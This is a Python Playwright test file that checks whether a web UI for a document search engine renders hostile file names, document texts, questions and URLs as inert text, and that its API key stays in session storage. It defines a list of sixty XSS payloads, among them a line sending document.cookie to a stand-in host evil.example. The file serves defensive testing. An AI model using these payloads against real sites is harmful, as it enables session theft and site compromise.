"""The page among hostile documents, on a server that requires a key."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

pytest.importorskip("playwright.sync_api", reason="the browser driver is not installed")

from playwright.sync_api import Browser, Page, Route, expect
from tests.serving.http.browser import (
    ServerProcess,
    WatchedTab,
    browser,
    explain_absence,
    open_tab,
    serve,
)

from fathom import Engine
from fathom.index.engines import EmbeddedIndex
from fathom.serving.http.keys import Key, create_key_store

pytestmark = pytest.mark.skipif(
    bool(explain_absence()), reason=explain_absence() or "there is a browser"
)
CALLS = ("hacked()", "alert(1)", "fetch('https://evil.example/'+document.cookie)")
ELEMENTS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}></svg>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>",
    "<a href='javascript:{call}'>click</a>",
    "<form action='javascript:{call}'><button>go</button></form>",
    "<style>@import 'https://evil.example/x.css';</style><b onmouseover={call}>b</b>",
    "<object data='javascript:{call}'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}></style></table></mtext></math>",
    "'\"--></title></textarea></script><script>{call}</script>",
    "[click](javascript:{call})",
    "![x](https://evil.example/leak.png?{call})",
    "javascript:{call}//",
    "data:text/html,<script>{call}</script>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='https://evil.example/'><template><script>{call}</script></template>",
)
PAYLOADS = tuple(element.format(call=call) for call in CALLS for element in ELEMENTS)
FOREIGN = ["script", "iframe", "object", "embed", "style", "base", "meta", "video", "math"]
"""Elements that the page never makes below its body."""
WATCH = "window.hacked = () => { window.wasHacked = true; };"


@dataclass
class GuardedServer:
    """A server and the key that it requires."""

    served: ServerProcess
    key: str


@pytest.fixture(scope="module")
def chrome() -> Iterator[Browser]:
    with browser() as chromium:
        yield chromium


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GuardedServer]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "corpus").mkdir()
    for number, payload in enumerate(PAYLOADS, start=1):
        name = f"{number:02} {payload}".replace("/", "\N{FRACTION SLASH}")[:80]
        text = f"# {payload}\n\nThe colour of gate {number} is {payload} teal.\n"
        (folder / "corpus" / f"{name}.md").write_text(text, encoding="utf-8")
    with Engine.open(folder / "index", {"offline": True}) as engine:
        assert engine.ingest([folder / "corpus"]).documents == len(PAYLOADS)
    keys = create_key_store(EmbeddedIndex(folder / "index"))
    _, key = keys.add(Key(id="", name="page"))
    keys.close()
    server = serve(folder / "index")
    yield GuardedServer(server, key)
    server.stop()


@pytest.fixture
def hostile(chrome: Browser, guarded: GuardedServer) -> Iterator[WatchedTab]:
    with open_tab(chrome, guarded.served.address) as watched:
        watched.context.add_init_script(WATCH)
        script = (
            f"if (location.protocol === 'http:') sessionStorage['fathom.key'] = '{guarded.key}';"
        )
        watched.context.add_init_script(script)
        yield watched
        assert watched.list_faults() == []
        assert not watched.page.evaluate("window.wasHacked === true")


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == 60


def test_the_required_key_is_kept_for_this_tab_only(
    chrome: Browser, guarded: GuardedServer
) -> None:
    with open_tab(chrome, guarded.served.address) as watched:
        watched.expected = ("401 (Unauthorized)",)
        page = watched.open_screen("#/documents")
        dialog = page.get_by_role("dialog", name="API key")
        expect(dialog.get_by_role("alert")).to_have_count(0)
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Give the key").click()
        dialog.get_by_label("The key of this server").fill("fth_wrong")
        dialog.get_by_role("button", name="Use it").click()
        expect(dialog.get_by_role("alert")).to_have_text("The server does not accept this key.")
        dialog.get_by_label("The key of this server").fill(guarded.key)
        dialog.get_by_role("button", name="Use it").click()
        expect(page.get_by_text("60 documents")).to_be_visible()
        assert page.evaluate("JSON.stringify(localStorage)") == "{}"
        assert page.evaluate("sessionStorage['fathom.key']") == guarded.key
        assert watched.context.cookies() == []
        page.get_by_role("button", name="API key").click()
        page.get_by_role("button", name="Forget the key").click()
        expect(dialog).to_be_visible()
        assert page.evaluate("sessionStorage.length") == 0
        assert watched.list_faults() == []


def test_a_late_refusal_of_an_older_key_does_not_ask_for_a_key_again(
    chrome: Browser, guarded: GuardedServer
) -> None:
    with open_tab(chrome, guarded.served.address) as watched:
        watched.expected = ("401 (Unauthorized)",)
        refusals: list[Route] = []

        def hold_wrong_key(route: Route) -> None:
            wrong = "fth_wrong" in route.request.headers.get("authorization", "")
            refusals.append(route) if wrong else route.continue_()

        watched.page.route("**/conversations", hold_wrong_key)
        page = watched.open_screen("#/documents")
        dialog = page.get_by_role("dialog", name="API key")
        for key in ("fth_wrong", guarded.key):
            dialog.get_by_label("The key of this server").fill(key)
            dialog.get_by_role("button", name="Use it").click()
        expect(page.get_by_text("60 documents")).to_be_visible()
        with page.expect_response(lambda reply: reply.status == 401) as late:
            refusals[0].continue_()
        late.value.finished()
        page.evaluate("() => new Promise((done) => setTimeout(done, 50))")
        expect(dialog).to_have_count(0)
        assert watched.list_faults() == []


def test_titles_names_and_texts_stay_text(hostile: WatchedTab) -> None:
    page = hostile.open_screen("#/documents")
    rows = page.locator("table.documents tbody tr")
    expect(rows).to_have_count(len(PAYLOADS))
    text = " ".join(rows.all_inner_texts())
    assert "<img src=x onerror=hacked()>" in text
    assert "<script>hacked()<\N{FRACTION SLASH}script>.md" in text
    check_unchanged(page)
    for number in range(0, 12, 2):
        rows.nth(number).get_by_role("link").click()
        expect(page.locator(".lines")).to_contain_text("The colour of gate")
        check_unchanged(page)
        page.go_back()
        expect(rows).to_have_count(len(PAYLOADS))


def test_answers_sources_and_traces_stay_text(hostile: WatchedTab) -> None:
    for number in (1, 22, 48):
        page = hostile.ask(f"What is the colour of gate {number}?")
        check_unchanged(page)
        page.locator(".source, .who").first.click()
        expect(page.locator(".panel .lines")).to_contain_text("The colour of gate")
        check_unchanged(page)
    page.get_by_role("link", name="Show the trace").click()
    page.locator(".tree summary").first.click()
    check_unchanged(page)


def test_a_question_stays_text(hostile: WatchedTab) -> None:
    page = hostile.ask(PAYLOADS[1])
    expect(page.locator(".question")).to_have_text(PAYLOADS[1])
    check_unchanged(page)
    page.reload()
    expect(page.locator(".question")).to_have_text(PAYLOADS[1])
    check_unchanged(page)


SHOW = (Path(__file__).parent / "hostile.js").read_text(encoding="utf-8")


def test_sixty_payloads_in_every_field_make_no_element_and_no_link(
    hostile: WatchedTab, count_probes: Callable[[int], None]
) -> None:
    count_probes(len(PAYLOADS))
    page = hostile.open_screen("#/compare")
    page.locator("h1").wait_for()
    page.evaluate(SHOW, list(PAYLOADS))
    check_unchanged(page)
    links = page.locator("main a").evaluate_all("links => links.map((each) => each.protocol)")
    assert set(links) <= {"http:", "https:"}
    page.locator("main .source").first.hover()
    page.locator("main details.work summary").first.click()
    page.wait_for_timeout(200)
    check_unchanged(page)


def test_addresses_of_screens_stay_text(hostile: WatchedTab) -> None:
    hostile.expected = ("404 (Not Found)", "400 (Bad Request)", "422 (Unprocessable")
    for payload in PAYLOADS[:20]:
        for screen in ("documents", "traces", "c", "reports"):
            hostile.page.goto(f"{hostile.address}/#/{screen}/{payload}")
    hostile.page.goto(f"{hostile.address}/#/documents/x?start=%3Cimg%20onerror=hacked()%3E")
    expect(hostile.page.get_by_role("alert")).to_be_visible()
    check_unchanged(hostile.page)


def check_unchanged(page: Page) -> None:
    """Check that the page has only its own elements, and no attribute that acts."""
    foreign = page.evaluate(
        """(names) => [...document.querySelectorAll("body *")].filter((each) =>
            names.includes(each.tagName.toLowerCase()) ||
            each.getAttributeNames().some((name) => name.startsWith("on") || name === "srcdoc") ||
            (each.tagName === "IMG" && !/^(blob:|http:[^?]*favicon\\.svg$)/.test(each.src)) ||
            /^\\s*(javascript|data):/i.test(each.getAttribute("href") ?? "")
        ).map((each) => each.outerHTML.slice(0, 200))""",
        FOREIGN,
    )
    assert foreign == []
    assert not page.evaluate("window.wasHacked === true")
